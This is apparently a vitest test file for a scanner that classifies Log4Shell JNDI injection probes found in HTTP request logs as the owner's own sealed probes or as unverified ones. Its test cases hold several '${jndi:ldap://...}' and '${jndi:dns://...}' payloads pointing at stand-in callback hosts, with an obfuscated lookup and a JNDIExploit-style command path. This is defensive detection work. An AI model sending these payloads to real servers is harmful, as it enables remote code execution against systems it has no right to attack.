import { expect, test } from 'vitest'
import { huntIn } from '../../test/kit/hunting.ts'
import { type AttackFinding, mintToken, type Seal } from '../core/index.ts'
import { OwnScanner, ownUnverified, ownVerified } from './own-scanner.ts'

const sealOf =
  (key: number): Seal =>
  (text) =>
    Uint8Array.from({ length: 32 }, (_, i) => (text.charCodeAt(i % text.length) * 7 + i * 13 + key) & 255)
const seal = sealOf(1)
const token = mintToken({ intent: 'confirm', scan: 1, target: 2, slot: 3 }, seal)

function sentAs(payload: string): AttackFinding {
  const [finding] = huntIn(`GET /?x=${payload}\n`).findings
  if (finding === undefined) throw new Error('nothing was found')
  return finding
}

test.each([
  ['under its key', `\${jndi:ldap://${token}.cb.example:1389/${token}/\${lower:Y:-n}}`, seal, ownVerified],
  ['without a key', `\${jndi:ldap://${token}.cb.example:1389/${token}/\${lower:Y:-n}}`, null, ownUnverified],
  ['under another key', `\${jndi:ldap://${token}.cb.example:1389/${token}/\${lower:Y:-n}}`, sealOf(2), ownUnverified],
  ['at an address', `\${jndi:ldap://192.0.2.9:1389/${token}}`, null, ownUnverified],
  ['by way of DNS', `\${jndi:dns://192.0.2.9:53/${token}}`, seal, ownVerified],
  ['a token in a name alone, unsealed', `\${jndi:ldap://${token}.cb.example/a}`, null, null],
  ['a label that is none', '${jndi:ldap://192.0.2.9/Basic/Command/aaaaaaaaaaaaaaaaaaaaaaaa}', null, null],
])('a probe of ours is known %s', (_case, payload, key, scanner) => {
  expect(new OwnScanner(key).marked(sentAs(payload)).scanner).toBe(scanner)
})
